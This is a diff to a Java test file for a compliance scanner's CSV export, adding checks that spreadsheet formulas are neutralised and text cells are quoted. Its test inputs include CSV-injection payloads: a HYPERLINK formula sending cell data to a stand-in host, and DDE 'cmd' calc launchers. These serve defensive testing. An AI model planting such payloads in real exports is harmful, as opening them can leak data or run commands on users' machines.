@@ -7,6 +7,7 @@ import io.labscan.controller.report.ComplianceReport.Infection;
 import io.labscan.controller.report.ComplianceReport.NonCompliantHost;
 import io.labscan.controller.report.ComplianceReport.Rows;
 import io.labscan.controller.report.ComplianceReport.StaleAntivirus;
+import io.labscan.controller.text.SpreadsheetCsv;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.List;
@@ -35,17 +36,38 @@ class ReportCsvTest {
         new NonCompliantHost("id-4", "@SUM(1+1)*cmd|' /C calc'!A0", "physics-lab", "UNKNOWN", List.of())),
         List.of(), List.of()));
     List<String> lines = List.of(csv.split("\r\n"));
-    assertThat(lines.get(2)).isEqualTo("out-of-compliance,,physics-lab,id-1,"
-        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,,,INFECTED,verdict is not CLEAN,,");
-    assertThat(lines.get(3)).contains(",'+cmd|' /C calc'!A0,");
-    assertThat(lines.get(4)).contains(",'-2+3,");
-    assertThat(lines.get(5)).contains(",'@SUM(1+1)*cmd|' /C calc'!A0,");
-    for (String line : lines) {
-      for (String cell : line.split(",", -1)) {
-        assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("+")
-            .doesNotStartWith("@");
-      }
-    }
+    assertThat(lines.get(2)).isEqualTo("\"out-of-compliance\",\"\",\"physics-lab\",\"id-1\","
+        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,,,\"INFECTED\",\"verdict is not CLEAN\",\"\",\"\"");
+    List<List<String>> rows = SpreadsheetCsv.rows(csv);
+    assertThat(rows.get(3).get(4)).isEqualTo("'+cmd|' /C calc'!A0");
+    assertThat(rows.get(4).get(4)).isEqualTo("'-2+3");
+    assertThat(rows.get(5).get(4)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
+    SpreadsheetCsv.assertNoFormula(csv);
+  }
+
+  @Test
+  void aHostnameWithSemicolonsIsOneQuotedCellForSpreadsheetsThatSplitOnSemicolons() {
+    String hostname = "pc;=cmd|' /C calc'!A0;@SUM(1)";
+    String reason = "av off;-1+1, really";
+    String csv = ReportCsv.render(report(List.of(new NonCompliantHost("id-1", hostname, "physics;lab", "UNKNOWN",
+        List.of(reason))), List.of(), List.of()));
+    SpreadsheetCsv.assertEveryTextCellQuoted(csv);
+    List<String> row = SpreadsheetCsv.rows(csv).get(2);
+    assertThat(row).hasSize(ReportCsv.HEADER.split(",").length);
+    assertThat(row.get(2)).isEqualTo("physics;lab");
+    assertThat(row.get(4)).isEqualTo(hostname);
+    assertThat(row.get(9)).isEqualTo(reason);
+  }
+
+  @Test
+  void countsAndPercentagesStayBareNumbersAndADayWithoutDataHasEmptyNumberCells() {
+    ComplianceReport r = new ComplianceReport(Instant.parse("2026-11-03T06:00:00Z"), Optional.of("physics-lab"),
+        new DateRange(DAY.from(), DAY.from().plusDays(2)), List.of("physics-lab"),
+        List.of(new Day(DAY.from(), 3, 2, "snapshot"), new Day(DAY.from().plusDays(1), 0, 0, "none")), List.of(),
+        new Rows<>(List.of(), 0), new Rows<>(List.of(), 0), new Rows<>(List.of(), 0), new Rows<>(List.of(), 0), 3, 2);
+    String[] lines = ReportCsv.render(r).split("\r\n");
+    assertThat(lines[1]).isEqualTo("\"compliance\",\"2026-11-02\",\"physics-lab\",\"\",\"\",2,3,66.7,\"snapshot\",\"\",\"\",\"\"");
+    assertThat(lines[2]).isEqualTo("\"compliance\",\"2026-11-03\",\"physics-lab\",\"\",\"\",,,,\"none\",\"\",\"\",\"\"");
   }
 
   @Test
@@ -57,9 +79,9 @@ class ReportCsvTest {
     String[] lines = csv.split("\r\n");
     assertThat(lines).hasSize(3);
     assertThat(lines[0]).isEqualTo(ReportCsv.HEADER);
-    assertThat(lines[1]).isEqualTo("compliance,2026-11-02,physics-lab,,,2,3,66.7,snapshot,,,");
-    assertThat(lines[2]).startsWith("stale-antivirus,,physics-lab,id-9,\"pc \"\"nine\"\", room 2")
+    assertThat(lines[2]).startsWith("\"stale-antivirus\",\"\",\"physics-lab\",\"id-9\",\"pc \"\"nine\"\", room 2")
         .doesNotContain("\u001b").contains("\"ClamAV STALE (daily.cld built 9 days ago, limit 3 days)");
+    assertThat(SpreadsheetCsv.rows(csv).get(2).get(4)).isEqualTo("pc \"nine\", room 2\\x0D\\x0Afake,row");
   }
 
   @Test
@@ -67,8 +89,9 @@ class ReportCsvTest {
     String csv = ReportCsv.render(report(List.of(), List.of(), List.of(new Infection("id-7", "chem-pc-07",
         "physics-lab", Instant.parse("2026-11-02T07:00:00Z"), Optional.of(Instant.parse("2026-11-02T19:00:00Z")),
         "Klez dropper name in the system folder"))));
-    assertThat(csv).contains("infection,,physics-lab,id-7,chem-pc-07,,,,cleared,Klez dropper name in the system "
-        + "folder,2026-11-02T07:00:00Z,2026-11-02T19:00:00Z\r\n");
+    assertThat(SpreadsheetCsv.rows(csv).get(2)).containsExactly("infection", "", "physics-lab", "id-7", "chem-pc-07",
+        "", "", "", "cleared", "Klez dropper name in the system folder", "2026-11-02T07:00:00Z",
+        "2026-11-02T19:00:00Z");
   }
 
   @Test
@@ -77,6 +100,7 @@ class ReportCsvTest {
     ComplianceReport r = new ComplianceReport(Instant.parse("2026-11-03T06:00:00Z"), Optional.empty(), DAY,
         List.of(), List.of(), List.of(), new Rows<>(one, 6001), new Rows<>(List.of(), 0), new Rows<>(List.of(), 0),
         new Rows<>(List.of(), 0), 0, 0);
-    assertThat(ReportCsv.render(r)).contains("note,,,,,1,6001,,truncated,out-of-compliance: the first 1 of 6001 rows");
+    assertThat(ReportCsv.render(r)).contains("\"note\",\"\",\"\",\"\",\"\",1,6001,,\"truncated\","
+        + "\"out-of-compliance: the first 1 of 6001 rows\"");
   }
 }
